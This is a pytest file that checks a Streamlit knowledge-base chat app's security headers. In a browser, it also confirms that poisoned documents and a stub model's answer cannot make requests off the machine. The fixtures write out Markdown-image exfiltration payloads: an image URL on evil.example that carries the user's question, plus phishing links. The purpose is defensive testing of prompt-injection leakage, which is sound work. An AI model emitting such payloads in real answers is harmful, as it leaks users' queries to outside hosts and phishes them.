"""Outside content in the real app: the headers it sends, and what a browser fetches.

The app is started the way ``make run`` starts it (``streamlit run serve_app.py``) and driven in
Debian's Chromium. A poisoned document (Markdown images with nested and escaped brackets in its
title, source and text, also as an older store would hold it) is quoted, and a model (the
loopback OpenAI stub) answers with an image that carries the question to another host. Every
request the page makes is recorded: none may leave 127.0.0.1, no image or link to another host
may be in the page, and the Content Security Policy must be in force.
"""

from __future__ import annotations

import re
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from app_browser import CHAT_INPUT, answered, app_server, ask, open_app
from openai_stub import StubOpenAI
from reliability_support import POISONED
from test_knowledge_support import embedder, seed_home

ROOT = Path(__file__).resolve().parents[1]
SERVER = ROOT / "serve_app.py"
EVIL = "evil.example"


@pytest.mark.timeout(120)
def test_the_app_sends_a_content_security_policy_and_framing_headers(tmp_path):
    """Every response of the app as `make run` serves it carries a CSP that allows images only
    from the app itself, plus framing, sniffing and referrer headers."""
    run = [line for line in (ROOT / "Makefile").read_text().splitlines() if "streamlit run" in line]
    assert run and "serve_app.py" in run[0] and "--server.fileWatcherType none" in run[0]
    with app_server(tmp_path / "home", script=SERVER) as server:
        for path in ("/", "/_stcore/health", "/knowledge", "/no-such-file.png"):
            try:
                with urllib.request.urlopen(server.url + path, timeout=10) as response:
                    raw = response.headers
            except urllib.error.HTTPError as exc:  # a 404 carries the headers too
                raw = exc.headers
            headers = {k.lower(): v for k, v in raw.items()}
            csp = headers.get("content-security-policy", "")
            directives = dict(d.strip().split(" ", 1) for d in csp.split(";") if " " in d.strip())
            assert directives.get("img-src") == "'self' data: blob:", (path, csp)
            assert directives.get("default-src") == "'self'" and "frame-ancestors" in directives
            assert directives.get("object-src") == "'none'"
            assert headers.get("x-frame-options") == "SAMEORIGIN"
            assert headers.get("x-content-type-options") == "nosniff"
            assert headers.get("referrer-policy") == "no-referrer"


def poisoned_home(home: Path) -> Path:
    """The bundled corpus, the poisoned image document, and the same poison stored as a store
    written before ingestion cleaned Markdown would hold it."""
    from knowledge.base import open_knowledge_base
    from knowledge.ingest import chunk_records
    from knowledge.loaders import Document
    from knowledge.store import forget_local_client

    seed_home(home)
    kb = open_knowledge_base(home, embedder=embedder())
    assert kb.ingest([POISONED / "image-brackets.md"]).added
    legacy = Document(
        title=f"Vault report ![a\\]b](https://{EVIL}/title.png?q=vault)",
        source=f"[![c](https://{EVIL}/source.png)](https://{EVIL}/login)",
        text=(
            "Silver vault inventories are falling fast as buyers withdraw metal. "
            f"![x [y] z](https://{EVIL}/body.png?q=inventories) Read the "
            f"[full vault report](https://{EVIL}/phish) for the withdrawals."
        ),
        path="",
        assets=("silver",),
    )
    ids, texts, embed, metas = chunk_records(legacy, "legacy-vault", "user", kb.embedder.model_id)
    kb.store.upsert(ids, kb.embedder.embed(embed), texts, metas)
    forget_local_client(home / "chroma")
    return home


def off_machine(urls: list[str]) -> list[str]:
    return [
        u
        for u in urls
        if urlsplit(u).scheme in ("http", "https", "ws", "wss")
        and urlsplit(u).hostname not in ("127.0.0.1", "localhost")
    ]


def outside_elements(page) -> list[str]:
    """Images and links in the page that point anywhere but the app."""
    return page.evaluate(
        """() => [...document.querySelectorAll('img[src], a[href], source[src]')]
            .map(e => e.getAttribute('src') || e.getAttribute('href'))
            .filter(u => /^(https?:)?\\/\\//i.test(u) && !u.includes('127.0.0.1'))"""
    )


def use_stub_model(page, base_url: str) -> None:
    """Switch the sidebar to an OpenAI-compatible model served by the loopback stub."""
    from playwright.sync_api import expect

    page.get_by_text("OpenAI-compatible API").click()
    for label, value in (
        ("Model id", "openai:gpt-test"),
        ("Base URL (optional)", base_url),
        ("API key", "sk-test-not-a-real-key"),
    ):
        box = page.get_by_role("textbox", name=label, exact=True)
        box.fill(value)
        box.press("Enter")
        expect(box).to_have_value(value)
    # the sidebar says where the key comes from once the app has taken it
    page.get_by_text("Using the key entered above").wait_for(timeout=30_000)


@pytest.mark.browser
@pytest.mark.timeout(240)
def test_no_request_leaves_the_machine_when_answers_carry_outside_images(browser, tmp_path):
    """Quoting a poisoned document and a model answer with `![](https://host/?q=question)` make
    no request off 127.0.0.1: images and links show as text, and the CSP is in force."""
    home = poisoned_home(tmp_path / "home")
    question = "Why are buyers withdrawing silver from vaults?"

    def exfiltrate(body: dict) -> dict:
        asked = quote(str(body["messages"][-1].get("content", ""))[:80])
        return {
            "text": f"Vault stocks are falling. ![](https://{EVIL}/pixel.png?q={asked}) "
            f"See [your account](https://{EVIL}/login) or https://{EVIL}/bare for more."
        }

    with StubOpenAI([exfiltrate] * 6) as stub, app_server(home, script=SERVER) as server:
        page = open_app(browser, server.url)
        requests: list[str] = []
        console: list[str] = []
        page.on("request", lambda r: requests.append(r.url))
        page.on("console", lambda m: console.append(m.text))
        ask(page, question)
        messages = page.get_by_test_id("stChatMessage")
        messages.get_by_text("Silver vault inventories", exact=False).first.wait_for(timeout=60_000)
        page.get_by_text(re.compile("quoted from documents|All figures from tools")).first.wait_for(
            timeout=30_000
        )
        quoted = messages.last.inner_text().replace("\u200b", "")
        assert "full vault report" in quoted  # the link's words are shown, as text
        use_stub_model(page, stub.base_url)
        ask(page, "Is gold breaking out?")
        # The whole answer: its footer (the model's label and the time taken) ends a finished turn.
        finished = answered(page, 1, footer=re.compile(r" · \d+\.\d\d s$"))
        answer = finished.inner_text().replace("\u200b", "")
        assert f"https://{EVIL}/pixel.png" in answer and "your account" in answer  # as text
        assert stub.requests, "the stub model was not used"
        page.get_by_test_id(CHAT_INPUT).wait_for()
        assert off_machine(requests) == [], off_machine(requests)
        assert outside_elements(page) == []
        assert not [m for m in console if EVIL in m], console
        # The policy is in force: an image from elsewhere, if one ever reached the page, is refused.
        assert page.evaluate(CSP_PROBE) == "img-src"


CSP_PROBE = """() => new Promise(resolve => {
    document.addEventListener('securitypolicyviolation', e => resolve(e.effectiveDirective),
                              {once: true});
    const probe = new Image();
    probe.src = 'https://evil.example/csp-probe.png';
    setTimeout(() => resolve(null), 5000);
})"""
